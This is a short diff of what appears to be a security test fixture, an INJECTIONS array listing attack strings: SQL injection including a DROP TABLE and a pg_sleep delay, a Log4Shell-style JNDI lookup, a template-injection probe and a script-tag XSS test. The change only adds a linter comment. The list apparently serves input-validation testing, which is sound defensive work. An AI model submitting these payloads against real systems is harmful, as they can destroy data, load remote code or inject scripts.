@@ -27,6 +27,7 @@ const INJECTIONS = [
   "' OR '1'='1' --",
   '"; DROP TABLE organizations; --',
   '1; SELECT pg_sleep(10)',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style payload, literally
   '${jndi:ldap://x/a}',
   '{{7*7}}',
   '<script>alert(1)</script>',
